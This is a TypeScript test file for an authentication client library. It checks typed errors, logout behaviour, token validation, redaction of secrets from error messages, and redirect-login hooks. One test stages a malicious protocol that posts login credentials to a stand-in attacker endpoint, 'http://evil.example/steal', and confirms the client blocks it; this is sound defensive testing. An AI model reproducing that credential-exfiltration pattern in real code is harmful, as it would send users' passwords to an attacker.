import { http, HttpResponse } from 'msw'
import { describe, expect, it, vi } from 'vitest'
import { createAuthClient, memoryStorage, type AuthError, type Protocol, type ProtocolCalls } from '../src/index.js'
import { oauth2 } from '../src/oauth2/index.js'
import { BASE_URL, record, serialize, useMockAuthServer } from './helpers.js'

// A protocol of the app's own, however it misbehaves: the client keeps its promises (typed
// errors, logout that settles, no session from junk) and leaks nothing.
const { mock, server } = useMockAuthServer()

/** A protocol issuing real JWTs from the mock server, with `overrides` for the calls under test. */
const custom = (overrides: Partial<ProtocolCalls> = {}): Protocol => ({
  connect: () => ({
    id: `${BASE_URL}/custom`,
    refreshesWithoutToken: false,
    login: async () => ({ accessToken: await mock().issueAccessToken('ada', 300), refreshToken: 'r', expiresInSec: 300 }),
    refresh: async () => ({ accessToken: await mock().issueAccessToken('ada', 299), refreshToken: 'r2', expiresInSec: 299 }),
    revoke: async () => true,
    ...overrides,
  }),
})
const client = (protocol: Protocol, requestTimeoutMs = 10_000) => createAuthClient({ baseUrl: BASE_URL, protocol, crossTab: false, requestTimeoutMs })

describe('a protocol of your own that misbehaves', () => {
  it.each<[string, ProtocolCalls['revoke']]>([
    ['throws', () => { throw new Error('revoke blew up with secret-token') }],
    ['rejects', async () => { throw new Error('revoke blew up with secret-token') }],
    ['resolves with something other than true', async () => 'yes' as never],
  ])('a revoke that %s: a second login still logs in, and logout resolves unconfirmed', async (_, revoke) => {
    const auth = client(custom({ revoke }))
    const logins = record((listener) => auth.on('login', listener))
    await auth.login({})
    const second = await auth.login({})
    expect(auth.getSession()).toBe(second)
    expect(logins).toHaveLength(2)
    expect(await auth.logout()).toEqual({ revoked: false })
    expect(auth.getSession()).toBeNull()
    auth.destroy()
  })

  it('a revoke that never settles: logout resolves unconfirmed within two request timeouts and a second', async () => {
    vi.useFakeTimers()
    const auth = client(custom({ revoke: () => new Promise(() => {}) }), 100)
    await auth.login({})
    let result: unknown
    void auth.logout().then((value) => (result = value))
    await vi.advanceTimersByTimeAsync(1_200)
    expect(result).toEqual({ revoked: false })
    expect(auth.getSession()).toBeNull()
    auth.destroy()
    vi.useRealTimers()
  })

  it.each<[string, unknown]>([
    ['undefined', undefined],
    ['an empty object', {}],
    ['calls without an id', { login: async () => undefined, refresh: async () => undefined, revoke: async () => true }],
    ['an id that is not a string', { id: 42, login: async () => undefined, refresh: async () => undefined, revoke: async () => true }],
    ['no login', { id: 'x', refresh: async () => undefined, revoke: async () => true }],
  ])('connect() giving %s: createAuthClient throws a TypeError naming "protocol"', (_, calls) => {
    const attempt = () => client({ connect: () => calls as never })
    expect(attempt).toThrow(TypeError)
    expect(attempt).toThrow('"protocol"')
  })

  it.each([
    ['a number as the access token', { accessToken: 12345, refreshToken: undefined, expiresInSec: 300 }],
    ['an empty access token', { accessToken: '', refreshToken: undefined, expiresInSec: 300 }],
    ['an object as the refresh token', { accessToken: 'x.y.z', refreshToken: {}, expiresInSec: 300 }],
    ['null', null],
  ])('a login that gives %s rejects with invalid_response and leaves no session', async (_, tokens) => {
    const auth = client(custom({ login: async () => tokens as never }))
    await expect(auth.login({})).rejects.toMatchObject({ name: 'AuthError', code: 'invalid_response' })
    expect(auth.getSession()).toBeNull()
    expect(await auth.getAccessToken()).toBeNull()
    auth.destroy()
  })

  it('a refresh that gives junk rejects with invalid_response and keeps the session it had', async () => {
    const auth = client(custom({ refresh: async () => ({ accessToken: 999 }) as never }))
    const session = await auth.login({})
    await expect(auth.refresh()).rejects.toMatchObject({ code: 'invalid_response' })
    expect(auth.getSession()).toBe(session)
    auth.destroy()
  })

  it('a protocol that posts the credentials to plain http beyond localhost gets insecure_transport, and nothing is sent', async () => {
    const sent: string[] = []
    server.use(http.post('http://evil.example/steal', async ({ request }) => (sent.push(await request.text()), HttpResponse.json({}))))
    const leaky: Protocol = {
      connect: (authServer) => ({
        ...custom().connect(authServer),
        login: async (credentials) => {
          await authServer.post('login', 'http://evil.example/steal', JSON.stringify(credentials), {})
          throw new Error('unreachable')
        },
      }),
    }
    const auth = client(leaky)
    await expect(auth.login({ password: 'hunter2' })).rejects.toMatchObject({ name: 'AuthError', code: 'insecure_transport' })
    expect(sent).toEqual([])
    auth.destroy()
  })

  it('a login that throws a plain Error rejects with an AuthError (network), the Error kept as its cause', async () => {
    const cause = new Error('the wire fell out')
    const auth = client(custom({ login: async () => { throw cause } }))
    const error = await auth.login({}).catch((e: unknown) => e)
    expect(error).toMatchObject({ name: 'AuthError', code: 'network', cause })
    auth.destroy()
  })
})

describe('oauth2() options', () => {
  it.each([
    ['options', 'spa'],
    ['options', null],
    ['clientId', { clientId: '' }],
    ['scope', { scope: 42 }],
    ['endpoints', { endpoints: null }],
    ['endpoints.revoke', { endpoints: { revoke: '/custom/revoke' } }],
    ['clientID', { clientID: 'spa' }],
  ])('refuses a bad %s with a TypeError naming it', (name, options) => {
    expect(() => oauth2(options as never)).toThrow(TypeError)
    expect(() => oauth2(options as never)).toThrow(`"${name}"`)
  })

  it.each(['clientId', 'scope'])('createAuthClient refuses the 0.1 spelling with %s beside the protocol, naming it', (name) => {
    const attempt = () => createAuthClient({ baseUrl: BASE_URL, protocol: oauth2(), [name]: 'spa' } as never)
    expect(attempt).toThrow(TypeError)
    expect(attempt).toThrow(`"${name}"`)
  })
})

describe('developer messages', () => {
  it("name no query string of an endpoint, and no server error code that could be a token", async () => {
    const jwtLike = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.SECRETSIG'
    server.use(http.post(`${BASE_URL}/q/login`, () => HttpResponse.json({ error: jwtLike }, { status: 429 })))
    const auth = createAuthClient({ baseUrl: BASE_URL, crossTab: false, endpoints: { login: '/q/login?k=QSECRET' } })
    const error = await auth.login({ username: 'ada', password: 'lovelace' }).catch((e: unknown) => e)
    expect(error).toMatchObject({ code: 'server', status: 429 })
    expect(serialize(error)).not.toMatch(/QSECRET|SECRETSIG/)
    expect((error as Error).message).toContain(`${BASE_URL}/q/login`)
    auth.destroy()
  })

  it('describe a function given as an option without printing its source', () => {
    const attempt = () => createAuthClient({ baseUrl: BASE_URL, protocol: oauth2 as never })
    expect(attempt).toThrow('"protocol"')
    expect(attempt).not.toThrow(/clientId|=>|function oauth2/)
  })
})

/** An unsigned JWT: the client reads claims, it does not check signatures. */
const jwt = (claims: Record<string, unknown>): string =>
  ['{"alg":"none"}', JSON.stringify(claims)].map((part) => Buffer.from(part).toString('base64url')).join('.') + '.'

describe('the hooks a redirect login uses (resume, afterLogout, the ID token)', () => {
  const idToken = jwt({ sub: 'ada', name: 'Ada Lovelace' })

  it('resume() is called once, synchronously, while the client is created; its tokens are a login before ready settles', async () => {
    const calls: string[] = []
    const protocol = custom({
      resume: () => {
        calls.push('resume')
        return Promise.resolve({ accessToken: 'opaque-from-callback', refreshToken: 'r', expiresInSec: 300, idToken })
      },
    })
    const auth = client(protocol)
    calls.push('created')
    const logins = record((listener) => auth.on('login', listener))
    const session = await auth.ready
    expect(calls).toEqual(['resume', 'created'])
    expect(session).toMatchObject({ accessToken: 'opaque-from-callback', claims: { sub: 'ada', name: 'Ada Lovelace' } })
    expect(logins).toEqual([session])
    auth.destroy()
  })

  it('a resume that rejects is an error event, typed, and ready goes on to restore the stored session', async () => {
    const storage = memoryStorage()
    const first = createAuthClient({ baseUrl: BASE_URL, protocol: custom(), crossTab: false, storage })
    const stored = await first.login({})
    first.destroy()
    const auth = createAuthClient({
      baseUrl: BASE_URL,
      crossTab: false,
      storage,
      protocol: custom({ resume: () => Promise.reject(new Error('callback blew up with secret-code')) }),
    })
    const errors = record<AuthError>((listener) => auth.on('error', listener))
    expect((await auth.ready)?.accessToken).toBe(stored.accessToken)
    expect(errors.map((error) => [error.code, error.message.includes('secret-code')])).toEqual([['network', false]])
    auth.destroy()
  })

  it('a resume that gives undefined changes nothing', async () => {
    const auth = client(custom({ resume: () => undefined }))
    expect(await auth.ready).toBeNull()
    auth.destroy()
  })

  it('afterLogout gets the ID token once the revocation settled, only for logout() here, and a throw there is swallowed', async () => {
    const order: string[] = []
    const auth = client(
      custom({
        login: async () => ({ accessToken: await mock().issueAccessToken('ada', 300), refreshToken: 'r', expiresInSec: 300, idToken }),
        revoke: async () => (order.push('revoke'), true),
        afterLogout: (token) => {
          order.push(`afterLogout ${token === idToken}`)
          throw new Error('navigation failed')
        },
      }),
    )
    await auth.login({})
    await auth.login({}) // replaces the first session: revoked, but nobody logged out
    await new Promise((resolve) => setTimeout(resolve, 10))
    expect(order).toEqual(['revoke'])
    expect(await auth.logout()).toEqual({ revoked: true })
    expect(order).toEqual(['revoke', 'revoke', 'afterLogout true'])
    auth.destroy()
  })

  it('an opaque access token shows the ID token claims; a JWT access token shows its own', async () => {
    const opaque = client(custom({ login: async () => ({ accessToken: 'opaque', refreshToken: 'r', expiresInSec: 300, idToken }) }))
    expect((await opaque.login({})).claims).toEqual({ sub: 'ada', name: 'Ada Lovelace' })
    const signed = client(custom({ login: async () => ({ accessToken: await mock().issueAccessToken('grace', 300), refreshToken: 'r', expiresInSec: 300, idToken }) }))
    expect((await signed.login({})).claims).toMatchObject({ sub: 'grace' })
    opaque.destroy()
    signed.destroy()
  })

  it('the ID token goes to refresh(), is stored with the session, and a reload shows its claims again', async () => {
    const storage = memoryStorage()
    const seen: (string | undefined)[] = []
    const protocol = custom({
      login: async () => ({ accessToken: 'opaque-1', refreshToken: 'r', expiresInSec: 300, idToken }),
      refresh: async (_, previous) => (seen.push(previous), { accessToken: 'opaque-2', refreshToken: 'r2', expiresInSec: 300, idToken: previous }),
    })
    const auth = createAuthClient({ baseUrl: BASE_URL, protocol, crossTab: false, storage })
    await auth.login({})
    expect((await auth.refresh()).claims).toMatchObject({ sub: 'ada' })
    expect(seen).toEqual([idToken])
    auth.destroy()
    const reloaded = createAuthClient({ baseUrl: BASE_URL, protocol, crossTab: false, storage })
    expect((await reloaded.ready)?.claims).toEqual({ sub: 'ada', name: 'Ada Lovelace' })
    reloaded.destroy()
  })

  it.each([
    ['an empty ID token', ''],
    ['an ID token that is not a string', 42],
  ])('a protocol giving %s: invalid_response, no session', async (_, bad) => {
    const auth = client(custom({ login: async () => ({ accessToken: 'opaque', refreshToken: 'r', expiresInSec: 300, idToken: bad as never }) }))
    await expect(auth.login({})).rejects.toMatchObject({ code: 'invalid_response' })
    expect(auth.getSession()).toBeNull()
    auth.destroy()
  })

  it("revoke() is told when the tokens are a replaced session's (a second login, a login overtaken by another), not a logout's", async () => {
    const calls: (boolean | undefined)[] = []
    let answer: (() => void) | undefined
    let slow = false
    const protocol = custom({
      login: async () => {
        if (slow) await new Promise<void>((resolve) => (answer = resolve))
        return { accessToken: await mock().issueAccessToken('ada', 300), refreshToken: 'r', expiresInSec: 300 }
      },
      revoke: async (_, __, replaced) => (calls.push(replaced), true),
    })
    const auth = client(protocol)
    await auth.login({})
    await auth.login({}) // replaces the first
    await vi.waitFor(() => expect(calls).toEqual([true]))
    slow = true
    const overtaken = auth.login({})
    await vi.waitFor(() => expect(answer).toBeDefined())
    slow = false
    await auth.login({}) // a newer login overtakes the slow one
    answer!()
    await expect(overtaken).rejects.toMatchObject({ code: 'aborted' })
    await vi.waitFor(() => expect(calls).toEqual([true, true, true]))
    slow = true
    answer = undefined
    const cut = auth.login({})
    await vi.waitFor(() => expect(answer).toBeDefined())
    await auth.logout() // revokes the session held, then the slow login's tokens when they come
    answer!()
    await expect(cut).rejects.toMatchObject({ code: 'aborted' })
    await vi.waitFor(() => expect(calls).toEqual([true, true, true, undefined, false]))
    auth.destroy()
  })
})

